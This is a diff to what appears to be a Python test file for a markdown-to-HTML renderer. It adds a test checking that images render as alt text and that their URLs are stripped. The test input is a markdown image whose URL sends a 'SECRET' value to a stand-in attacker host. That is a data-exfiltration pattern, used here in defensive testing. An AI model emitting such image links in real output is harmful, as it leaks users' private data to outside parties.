@@ -71,3 +71,9 @@ def test_code_is_escaped_not_executed():
 
 def test_empty_text_renders_nothing():
     assert markdown_to_html("") == ""
+
+
+def test_images_become_their_alt_text():
+    html = markdown_to_html("See ![the chart](https://evil.example/?q=SECRET) here")
+    assert "[image: the chart]" in html
+    assert "evil.example" not in html
